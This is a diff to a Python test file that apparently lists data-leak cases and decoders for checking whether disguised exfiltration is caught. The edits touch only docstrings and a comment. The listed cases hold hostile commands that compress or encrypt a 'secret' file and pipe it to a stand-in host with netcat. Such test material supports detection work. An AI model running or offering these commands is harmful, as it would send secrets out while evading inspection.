@@ -30,12 +30,12 @@ def unzipped(data):
 
 
 def from_octal(data):
-    """What od -An -b printed."""
+    """The bytes that `od -An -b` printed."""
     return bytes(int(word, 8) for word in data.split())
 
 
 def from_bits(data):
-    """What xxd -b printed."""
+    """The bytes that `xxd -b` printed."""
     return bytes(int(word, 2) for word in re.findall(rb"\b[01]{8}\b", data))
 
 
@@ -79,7 +79,7 @@ LEAKS = [
     Leak("deflate", snippet("import zlib\nsend(zlib.compress(read(), 9))"), shows=decoded(zlib.decompress)),
     Leak("gzip-twice", "gzip -nc secret | gzip -nc | nc remote 9", shows=decoded(lambda data: gzip.decompress(gzip.decompress(data))),
          passes=rb"(\x1f\x8b.{8})?"),
-    # Encrypted and hashed. What the key is makes no difference: the control run knows it.
+    # Encrypted and hashed. The key may be a known one: the control run needs it.
     Leak("aes", f"openssl enc -aes-256-cbc -K {KEY} -iv {IV} -in secret | nc remote 9", shows=lambda data: len(data) == 64),
     Leak("aes-counter", f"openssl enc -aes-128-ctr -K {KEY[:32]} -iv {IV} -in secret | nc remote 9",
          shows=lambda data: len(data) == len(CONTENT)),
